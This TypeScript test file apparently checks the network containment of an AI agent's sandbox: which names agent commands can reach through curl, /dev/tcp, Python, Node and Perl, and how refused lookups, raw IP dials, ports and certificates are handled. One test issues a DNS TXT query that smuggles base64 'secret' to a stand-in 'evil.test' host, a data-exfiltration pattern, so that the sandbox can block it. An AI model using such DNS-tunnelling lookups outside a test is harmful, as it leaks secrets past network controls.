import { Readable } from "node:stream";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { RefusedInside } from "../../src/core/outlet.ts";
import { type Opened, openSandbox, Place } from "../support/engine.ts";
import { words } from "../support/sandbox-contract.ts";
import { ScriptedOutlet, serveHttp } from "../support/scripted-outlet.ts";

const NOTHING: RefusedInside = { unreachable: 0, otherQuestions: 0, taken: [], heldPorts: [] };
const BULK_BYTES = 256 * 1024 * 1024;
const CERTIFICATE = "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n";

const http = serveHttp();
const outlet = new ScriptedOutlet({
  names: { "web.test": [80, 8080], "taken.test": [8443], "reset.test": [80], "down.test": [80], "up.test": [80] },
  forwards: [5432],
  certificates: CERTIFICATE,
  serve: (stream, to) => {
    const name = to.type === "name" ? to.name : "";
    if (name === "reset.test") return void stream.destroy(new Error("refused"));
    if (name === "down.test") return void bulk().pipe(stream).resume();
    if (name !== "up.test") return http(stream);
    let bytes = 0;
    stream.on("data", (chunk: Buffer) => {
      bytes += chunk.length;
    });
    stream.on("end", () => stream.end(`${bytes}\n`));
  },
});

function bulk(): Readable {
  const block = Buffer.alloc(64 * 1024, "x");
  let left = BULK_BYTES;
  return new Readable({
    read() {
      this.push(left > 0 ? block : null);
      left -= block.length;
    },
  });
}

let place: Place;
let opened: Opened;
let calls = 0;

/** Runs a command; `id` is what the outlet knows its call by. */
async function run(command: string, more = {}): Promise<{ text: string; id: string }> {
  const id = `call-${++calls}`;
  const call = { tool: "bash", args: { command, ...more }, deadlineMs: 60_000, callId: id };
  const options = { signal: new AbortController().signal, onOutput: () => undefined };
  return { text: words(await opened.sandbox.call(call, options)), id };
}

/** A program in Python as a command. */
function python(...lines: string[]): string {
  return ["python3 - <<'PYTHON'", ...lines, "PYTHON"].join("\n");
}

const refusedIn = (id: string): RefusedInside | undefined => outlet.refused.get(id);

beforeAll(async () => {
  place = await Place.create();
  opened = await openSandbox(place.root, { request: { outlet } });
});
afterAll(async () => {
  await opened?.[Symbol.asyncDispose]();
  await place?.[Symbol.asyncDispose]();
});

describe("an admitted name", () => {
  const request = "GET /x HTTP/1.0\\r\\nHost: web.test\\r\\n\\r\\n";
  it.each([
    ["curl", "curl -sS http://web.test/x"],
    ["curl at another port", "curl -sS http://web.test:8080/x"],
    ["bash", `exec 3<>/dev/tcp/web.test/80; printf '${request}' >&3; cat <&3`],
    ["python", `python3 -c 'import urllib.request as u; print(u.urlopen("http://web.test/x").read().decode())'`],
    ["node", `node -e 'fetch("http://web.test/x").then((r) => r.text()).then(console.log)'`],
    [
      "perl",
      `perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new("web.test:80") or die $@; print $s "${request}"; print <$s>'`,
    ],
  ])("is reached by %s", async (_program, command) => {
    const { text, id } = await run(command);
    expect(text).toMatch(/GET web\.test(:8080)?\/x/);
    expect(refusedIn(id)).toEqual(NOTHING);
    expect(outlet.connections.at(-1)?.by).toEqual({ callId: id, assumed: false });
  });

  it("is reached by git, which is told by the server that there is no repository", async () => {
    expect((await run("git ls-remote http://web.test/r.git")).text).toContain("not valid: is this a git repository?");
  });

  it("is found by getent and by a resolver that asks the name server itself", async () => {
    const ask = `node -e 'require("dns").promises.resolve4("web.test").then(console.log)'`;
    expect((await run(`getent hosts web.test; ${ask}`)).text).toMatch(
      /^127\.77\.0\.1 +web\.test\n\[ '127\.77\.0\.1' \]\n$/,
    );
  });

  it("whose connection the host breaks off is reset, and does not look empty", async () => {
    expect((await run("curl -sS http://reset.test/")).text).toMatch(/reset by peer/);
  });

  it("N-70 takes and gives a quarter of a gigabyte whole, and the tool host stays small", async () => {
    const upload = python(
      "import socket",
      's = socket.create_connection(("up.test", 80))',
      `for _ in range(${BULK_BYTES / 65_536}): s.sendall(bytes(65536))`,
      "s.shutdown(socket.SHUT_WR)",
      "print(s.recv(100).decode().strip())",
    );
    const { text } = await run(
      `(exec 3<>/dev/tcp/down.test/80; wc -c <&3)\n${upload}\ngrep VmHWM /proc/$PPID/status | tr -dc 0-9`,
    );
    const [down, up, peakKib] = text.split("\n").map(Number);
    expect([down, up]).toEqual([BULK_BYTES, BULK_BYTES]);
    expect(peakKib).toBeLessThan(400 * 1024);
  });
});

describe("what is not admitted", () => {
  it("N-15 a name that is refused fails at once, and no connection is tried", async () => {
    const before = outlet.connections.length;
    const ask = python(
      "import socket, time",
      "begun = time.time()",
      "for i in range(50):",
      '    try: socket.getaddrinfo(f"n{i}.denied.test", 443)',
      "    except socket.gaierror as e: error = e.errno == socket.EAI_NONAME",
      "print(error, time.time() - begun < 10)",
    );
    const { text, id } = await run(`curl -sS http://denied.test/\n${ask}`);
    expect(text).toBe("curl: (6) Could not resolve host: denied.test\nTrue True\n");
    expect(outlet.connections.length).toBe(before);
    expect(outlet.lookups.slice(-51).map(({ by }) => by.callId)).toEqual(Array(51).fill(id));
    expect((await run("curl -sS http://web.test/")).text).toContain("GET web.test/");
  });

  it("N-26 addresses without a name have no route, and are counted", async () => {
    const dial = python(
      "import socket",
      'for f, k, to in [(2, 1, ("192.0.2.1", 443)), (2, 2, ("198.51.100.1", 53)), (10, 1, ("2001:db8::1", 443))]:',
      "    try: socket.socket(f, k).connect(to)",
      "    except OSError as e: print(e.errno)",
    );
    const { text, id } = await run(dial);
    expect(text).toBe("101\n101\n101\n");
    expect(refusedIn(id)).toEqual({ ...NOTHING, unreachable: 3 });
    expect(refusedIn((await run("curl -sS http://web.test/")).id)).toEqual(NOTHING);
  });

  it("N-12 a question for TXT that carries data in its name stays inside, and is counted", async () => {
    const before = outlet.lookups.length;
    const ask = `for (const type of ["TXT", "MX", "NS"])
      require("dns").promises.resolve("c2VjcmV0.evil.test", type).catch((e) => console.log(e.code))`;
    const { text, id } = await run(`node -e '${ask}'`);
    expect(text).toBe("ENOTFOUND\n".repeat(3));
    expect(refusedIn(id)).toEqual({ ...NOTHING, otherQuestions: 3 });
    expect(outlet.lookups.length).toBe(before);
  });
});

describe("ports inside", () => {
  it("a forwarded one is reached at localhost, over both families", async () => {
    const { text } = await run("curl -sS http://127.0.0.1:5432/four; curl -sS 'http://[::1]:5432/six'");
    expect(text).toBe("GET 127.0.0.1:5432/four \nGET [::1]:5432/six \n");
    expect(outlet.connections.slice(-2).map(({ to }) => to)).toEqual(Array(2).fill({ type: "forward", listen: 5432 }));
  });

  it("a server of the agent's on the port of a name: the name has no address, and the call is told why", async () => {
    const serve = python(
      "import socket, time",
      "s = socket.socket()",
      "s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)",
      's.bind(("0.0.0.0", 8443)); s.listen(); time.sleep(100)',
    );
    await run(`echo $$ > /tmp/server; exec ${serve}`, { background: true });
    const taken = await run(
      "until grep -q ':20FB ' /proc/net/tcp; do sleep 0.05; done; curl -sS http://taken.test:8443/",
    );
    expect(taken.text).toContain("Could not resolve host: taken.test");
    expect(refusedIn(taken.id)?.taken).toEqual([
      { name: "taken.test", port: 8443, process: expect.stringMatching(/^python3 \(pid \d+\)$/) },
    ]);
    const free = await run(
      'kill "$(cat /tmp/server)"; while grep -q ":20FB .* 0A " /proc/net/tcp; do sleep 0.05; done; curl -sS http://taken.test:8443/',
    );
    expect(free.text).toContain("GET taken.test:8443/");
  });

  it("a program that cannot listen because a port stands for a name is told of that port", async () => {
    const { text, id } = await run("curl -sS -o /dev/null http://web.test/; timeout 20 python3 -m http.server 80");
    expect(text).toContain("Address already in use");
    expect(refusedIn(id)).toEqual({ ...NOTHING, heldPorts: [80] });
    expect(refusedIn((await run("timeout 1 python3 -m http.server 81; true")).id)).toEqual(NOTHING);
  });
});

describe("whose a connection is", () => {
  it("a background job's is its own call's, while another call runs that connects too", async () => {
    const job = await run(
      "until [ -e /tmp/go ]; do sleep 0.05; done; curl -sS http://job.denied/ http://web.test/job; touch /tmp/gone",
      {
        background: true,
      },
    );
    const call = await run(
      "curl -sS http://call.denied/ http://web.test/call; touch /tmp/go; until [ -e /tmp/gone ]; do sleep 0.05; done",
    );
    const by = (id: string) => ({ callId: id, assumed: false });
    expect(outlet.lookups.slice(-2).map((lookup) => lookup.by)).toEqual([by(call.id), by(job.id)]);
    expect(outlet.connections.slice(-2).map((connection) => connection.by)).toEqual([by(call.id), by(job.id)]);
  });
});

describe("a tool host that is started again", () => {
  it("answers names and listens at once, for jobs of before too", async () => {
    const job = await run(
      "until [ -e /tmp/on ]; do sleep 0.05; done; curl -sS http://web.test/job; touch /tmp/off; sleep 60",
      { background: true },
    );
    expect((await run("kill -9 $PPID; sleep 30")).text).toContain("The tool host was started again");
    const { text, id } = await run(
      "touch /tmp/on; until [ -e /tmp/off ]; do sleep 0.05; done; curl -sS http://web.test/call http://localhost:5432/f",
    );
    expect(text).toBe("GET web.test/call \nGET localhost:5432/f \n");
    expect(outlet.connections.slice(-3).map(({ by }) => by.callId)).toEqual([job.id, id, id]);
  });
});

describe("certificates of a session", () => {
  it("are where the usual programs look, after those of the image", async () => {
    const image = "/etc/ssl/certs/ca-certificates.crt";
    const { text } = await run(
      `cmp -n "$(stat -c %s ${image})" "$SSL_CERT_FILE" ${image} && tail -3 "$CURL_CA_BUNDLE"; cat "$NODE_EXTRA_CA_CERTS"`,
    );
    expect(text).toBe(CERTIFICATE.repeat(2));
  });
});
